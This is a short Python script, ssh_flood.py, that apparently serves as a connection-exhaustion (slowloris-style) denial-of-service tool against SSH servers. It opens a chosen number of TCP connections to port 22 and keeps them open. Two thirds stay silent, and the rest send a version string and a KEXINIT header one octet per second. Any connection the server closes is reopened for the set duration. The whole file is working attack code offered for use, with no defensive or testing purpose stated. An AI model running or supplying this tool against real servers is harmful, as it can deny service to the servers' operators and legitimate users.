"""Somebody who keeps an ssh server busy without ever logging in.

Run as a program: `ssh_flood.py ADDRESS COUNT SECONDS` holds so many TCP connections open; two thirds of them say nothing, the rest begin
the key exchange and send an octet of it a second. What the server closes is opened again. It prints how many it has opened.
"""
import contextlib
import errno
import selectors
import socket
import sys
import time

PORT = 22
VERSION = b"SSH-2.0-OpenSSH_9.2\r\n"
# A packet of 1532 octets with a KEXINIT, of which the rest comes slowly.
BEGUN = (1532).to_bytes(4) + b"\x08\x14" + bytes(16)
AT_ONCE = 5  # connections opened in a turn
TURN = 0.02  # s


class Connection:
    def __init__(self, address, is_slow):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setblocking(False)
        self.is_slow = is_slow
        self.rest = VERSION + BEGUN if is_slow else b""
        error = self.socket.connect_ex((address, PORT))
        if error not in (0, errno.EINPROGRESS):
            self.socket.close()
            raise OSError(error, "connect")

    def go_on(self):
        """What it says next; False if the server has gone."""
        if not self.is_slow:
            return True
        try:
            self.rest = self.rest[self.socket.send(self.rest):] or bytes(1)
        except BlockingIOError:
            return True
        except OSError:
            return False
        return True


def flood(address, count, seconds):
    held, opened, said_at = selectors.DefaultSelector(), 0, 0.0
    end = time.monotonic() + seconds

    def close(connection):
        held.unregister(connection.socket)
        connection.socket.close()

    while (now := time.monotonic()) < end:
        for _ in range(min(AT_ONCE, count - len(held.get_map()))):
            with contextlib.suppress(OSError):
                connection = Connection(address, is_slow=opened % 3 == 2)
                held.register(connection.socket, selectors.EVENT_READ, connection)
                opened += 1
        for key, _ in held.select(TURN):
            try:
                is_closed = key.fileobj.recv(4096) == b""
            except OSError:
                is_closed = True
            if is_closed:
                close(key.data)
        if now - said_at >= 1:
            said_at = now
            for key in list(held.get_map().values()):
                if not key.data.go_on():
                    close(key.data)
    print(opened, flush=True)


if __name__ == "__main__":
    flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
